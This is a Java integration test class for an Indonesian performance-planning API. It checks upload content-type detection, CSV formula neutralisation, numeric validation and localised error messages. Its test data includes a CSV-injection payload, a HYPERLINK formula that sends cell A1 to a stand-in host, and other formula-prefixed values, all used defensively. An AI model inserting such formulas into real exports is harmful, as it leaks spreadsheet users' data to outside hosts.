package id.kinerjaflow.api;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import id.kinerjaflow.planning.Skp;
import id.kinerjaflow.support.Berkas;
import id.kinerjaflow.support.Skenario;
import id.kinerjaflow.support.TestOrganisasi;
import java.io.IOException;
import java.io.StringReader;
import java.time.LocalDateTime;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.ActiveProfiles;

/**
 * Inputs that used to get through (issue 10, "Inputs that still get through"): evidence typed by its content,
 * formulas in CSV exports, fractions for whole numbers, huge CSV error lists, and Spring MVC's English refusals.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
    properties = "spring.datasource.url=jdbc:h2:mem:kinerja-masukan;DB_CLOSE_DELAY=-1")
@ActiveProfiles({"demo", "test"}) // test last: its settings win over the demo's
@DirtiesContext // one engine per JVM at a time: the process application registers it by name
class MasukanApiTest {
  private static final byte[] PNG = {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13, 'I', 'H', 'D', 'R'};
  private static final byte[] EXE = {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, (byte) 0xFF, (byte) 0xFF, 0, 0};

  @Autowired TestRestTemplate http;
  @Autowired TestOrganisasi organisasi;
  @Autowired Skenario skenario;
  @Autowired JdbcTemplate jdbc;

  TestOrganisasi.Org org;

  @BeforeEach
  void pemdaUji() {
    Skenario.jam(LocalDateTime.of(2024, 1, 5, 9, 0));
    org = organisasi.baru("lima-puluh-kota-2024", 2024);
  }

  @AfterEach
  void resetJam() { ClockUtil.reset(); }

  @Test
  void tipeBuktiDitentukanOlehIsinya() {
    Skp skp = skenario.rencanaDisetujui(skenario.mulai(org.pegawai(), 2024));
    skenario.jam(LocalDateTime.of(2024, 4, 2, 8, 0), org.pegawai() + "-2024");
    String bukti = "/api/skp/" + skp.getId() + "/periode/1/bukti";

    var exe = unggah(bukti, "evil.pdf", "application/pdf", EXE);
    assertThat(exe.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(exe.getBody().at("/errors/berkas").asText())
        .isEqualTo("isi berkas 'evil.pdf' bertipe application/x-msdownload; yang diizinkan: application/pdf, image/jpeg, image/png");
    assertThat(unggah(bukti, "foto.pdf", "application/pdf", PNG).getBody().at("/errors/berkas").asText())
        .startsWith("isi berkas 'foto.pdf' bertipe image/png, bukan application/pdf seperti yang dikirim");
    assertThat(unggah(bukti, "foto.pdf", "image/png", PNG).getBody().at("/errors/berkas").asText())
        .isEqualTo("isi berkas 'foto.pdf' bertipe image/png, tidak sesuai ekstensi .pdf (untuk tipe ini: .png)");
    assertThat(jdbc.queryForObject("select count(*) from bukti_dukung b join evaluasi_periodik e on e.id = b.evaluasi_id where e.skp_id = ?",
        Long.class, skp.getId())).as("nothing stored").isZero();

    // A client that cannot tell the type: the content's type is stored and served.
    var png = unggah(bukti, "foto.png", "application/octet-stream", PNG);
    assertThat(png.getStatusCode()).isEqualTo(HttpStatus.CREATED);
    assertThat(png.getBody().get("tipeKonten").asText()).isEqualTo("image/png");
    var unduh = http.withBasicAuth(org.penilai(), TestOrganisasi.PASSWORD).getForEntity(bukti + "/" + png.getBody().get("id").asLong(), byte[].class);
    assertThat(unduh.getHeaders().getContentType()).isEqualTo(MediaType.IMAGE_PNG);
    assertThat(unduh.getBody()).isEqualTo(PNG);
  }

  @Test
  void rumusDalamCsvKeluaranDinetralkan() throws IOException {
    List<String> nama = List.of("=HYPERLINK(\"http://contoh.test/?\"&A1,\"Klik\")", "+62 812", "-1+2", "@SUM(A1)", "Andi Saputra");
    StringBuilder csv = new StringBuilder("nip,nama,jenis_asn,jabatan,kelas_jabatan,unit_kerja,kepala,plt_plh,aktif\n");
    for (int i = 0; i < nama.size(); i++) {
      csv.append("20000101202499000").append(i).append(",\"").append(nama.get(i).replace("\"", "\"\"")).append("\",PNS,Staf,PELAKSANA,bidang,false,,true\n");
    }
    assertThat(admin().postForEntity("/api/instansi/" + org.instansi() + "/impor/pegawai", Berkas.csv(csv.toString()), JsonNode.class)
        .getStatusCode()).isEqualTo(HttpStatus.OK);

    String keluaran = admin().postForEntity("/api/instansi/" + org.instansi() + "/kata-sandi-awal", null, String.class).getBody();

    List<CSVRecord> baris = CSVFormat.DEFAULT.builder().setHeader().get().parse(new StringReader(keluaran)).getRecords();
    assertThat(baris).extracting(b -> b.get("nama"))
        .containsExactly("'=HYPERLINK(\"http://contoh.test/?\"&A1,\"Klik\")", "'+62 812", "'-1+2", "'@SUM(A1)", "Andi Saputra");
  }

  @Test
  void pecahanUntukBilanganBulatDitolakDenganNamaIsiannya() {
    var tahun = json(HttpMethod.POST, "/api/siklus", "{\"nip\": \"" + org.pegawai() + "\", \"tahun\": 2024.5}");
    assertThat(tahun.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(tahun.getBody().at("/errors/tahun").asText()).isEqualTo("tahun harus bilangan bulat");
    assertThat(jdbc.queryForObject("select count(*) from skp s join pegawai p on p.id = s.pegawai_id where p.nip = ?", Long.class,
        org.pegawai())).as("nothing started").isZero();

    long skpId = admin().postForEntity("/api/siklus", Map.of("nip", org.pegawai(), "tahun", 2024), JsonNode.class).getBody().get("skpId").asLong();
    String rencana = "/api/skp/" + skpId + "/rencana";
    String indikator = "{\"uraian\": \"Jumlah laporan\", \"targetKuantitas\": %s, \"satuan\": \"laporan\", \"targetKualitas\": 100, \"targetWaktu\": %s}";
    String rhk = "{\"rhk\": [{\"uraian\": \"Laporan\", \"jenis\": \"UTAMA\", \"indikator\": [" + indikator.formatted(1, 12) + ", %s]}]}";
    assertThat(json(HttpMethod.PUT, rencana, rhk.formatted(indikator.formatted(1, 11.5))).getBody().at("/errors")).isEqualTo(
        errors("rhk[0].indikator[1].targetWaktu", "targetWaktu harus bilangan bulat"));
    assertThat(json(HttpMethod.PUT, rencana, rhk.formatted(indikator.formatted("NaN", 12))).getBody().at("/errors")).isEqualTo(
        errors("rhk[0].indikator[1].targetKuantitas", "targetKuantitas tidak valid"));
    assertThat(json(HttpMethod.PUT, rencana, rhk.formatted(indikator.formatted("\"NaN\"", 12))).getBody().at("/errors")).isEqualTo(
        errors("rhk[0].indikator[1].targetKuantitas", "targetKuantitas harus berupa angka"));
    assertThat(json(HttpMethod.PUT, rencana, rhk.formatted(indikator.formatted(1, 99999999999L))).getBody().at("/errors")).isEqualTo(
        errors("rhk[0].indikator[1].targetWaktu", "targetWaktu di luar rentang angka yang diizinkan"));
    assertThat(jdbc.queryForObject("select count(*) from rhk where skp_id = ?", Long.class, skpId)).isZero();
  }

  @Test
  void csvDenganRibuanGalatMencantumkanSeratusPertamaDanJumlahnya() {
    String csv = "kode,nama,jenis,kode_induk\n" + "a,b,c\n".repeat(10_000);

    var r = admin().postForEntity("/api/instansi/" + org.instansi() + "/impor/unit", Berkas.csv(csv), String.class);

    assertThat(r.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(r.getBody().length()).isLessThan(10_000);
    JsonNode body = baca(r.getBody());
    assertThat(body.get("jumlahGalat").asInt()).isEqualTo(10_000);
    assertThat(body.get("detail").asText()).isEqualTo("Data yang dikirim tidak valid: 10000 baris bergalat, hanya 100 yang pertama "
        + "dicantumkan. Perbaiki lalu kirim ulang untuk melihat sisanya.");
    assertThat(body.get("errors").properties()).hasSize(100);
    assertThat(body.at("/errors/baris 2").asText()).isEqualTo("ada 3 kolom, seharusnya 4 sesuai judul");
    assertThat(body.at("/errors/baris 101").isMissingNode()).isFalse();
    assertThat(body.at("/errors/baris 102").isMissingNode()).isTrue();
  }

  @Test
  void penolakanSpringMvcBerbahasaIndonesia() {
    HttpHeaders teks = new HttpHeaders();
    teks.setContentType(MediaType.TEXT_PLAIN);
    var tipe = admin().postForEntity("/api/siklus", new HttpEntity<>("tahun=2024", teks), JsonNode.class);
    assertThat(tipe.getStatusCode()).isEqualTo(HttpStatus.UNSUPPORTED_MEDIA_TYPE);
    assertThat(tipe.getBody().get("title").asText()).isEqualTo("Tipe konten tidak didukung");
    assertThat(tipe.getBody().get("detail").asText())
        .startsWith("Tipe konten text/plain;charset=UTF-8 tidak diterima di alamat ini; kirim sebagai [application/json, ");

    var tanpaBerkas = http.withBasicAuth(org.pegawai(), TestOrganisasi.PASSWORD).postForEntity("/api/skp/1/periode/1/bukti",
        tanpaBagianBerkas(), JsonNode.class);
    assertThat(tanpaBerkas.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(tanpaBerkas.getBody().get("detail").asText()).isEqualTo("Berkas wajib diunggah sebagai bagian multipart 'berkas'.");

    var tanpaTahun = admin().getForEntity("/api/instansi/" + org.instansi() + "/skp-terlambat", JsonNode.class);
    assertThat(tanpaTahun.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(tanpaTahun.getBody().get("detail").asText()).isEqualTo("Parameter 'tahun' wajib diisi.");

    var metode = admin().exchange("/api/siklus", HttpMethod.DELETE, null, JsonNode.class);
    assertThat(metode.getStatusCode()).isEqualTo(HttpStatus.METHOD_NOT_ALLOWED);
    assertThat(metode.getBody().get("detail").asText()).isEqualTo("Metode DELETE tidak didukung di alamat ini; yang didukung: [POST].");

    var tidakAda = admin().getForEntity("/api/tidak-ada", JsonNode.class);
    assertThat(tidakAda.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
    assertThat(tidakAda.getBody().get("title").asText()).isEqualTo("Halaman tidak ditemukan"); // web/HalamanGalat, as for pages

    var rusak = json(HttpMethod.POST, "/api/siklus", "{\"nip\": ");
    assertThat(rusak.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
    assertThat(rusak.getBody().get("detail").asText()).isEqualTo("Isi permintaan bukan JSON yang valid.");
  }

  private static HttpEntity<?> tanpaBagianBerkas() {
    var body = new org.springframework.util.LinkedMultiValueMap<String, Object>();
    body.add("lain", "x");
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.MULTIPART_FORM_DATA);
    return new HttpEntity<>(body, headers);
  }

  private TestRestTemplate admin() { return http.withBasicAuth("admin", "admin"); }

  private ResponseEntity<JsonNode> unggah(String path, String nama, String tipe, byte[] isi) {
    return http.withBasicAuth(org.pegawai(), TestOrganisasi.PASSWORD).postForEntity(path, Berkas.unggah(nama, tipe, isi), JsonNode.class);
  }

  /** As the employee for the plan, as the admin otherwise; the body exactly as written. */
  private ResponseEntity<JsonNode> json(HttpMethod metode, String path, String isi) {
    HttpHeaders headers = new HttpHeaders();
    headers.setContentType(MediaType.APPLICATION_JSON);
    var klien = path.contains("/rencana") ? http.withBasicAuth(org.pegawai(), TestOrganisasi.PASSWORD) : admin();
    return klien.exchange(path, metode, new HttpEntity<>(isi, headers), JsonNode.class);
  }

  private static JsonNode errors(String jalur, String pesan) { return new com.fasterxml.jackson.databind.ObjectMapper().valueToTree(Map.of(jalur, pesan)); }

  private static JsonNode baca(String json) {
    try {
      return new com.fasterxml.jackson.databind.ObjectMapper().readTree(json);
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
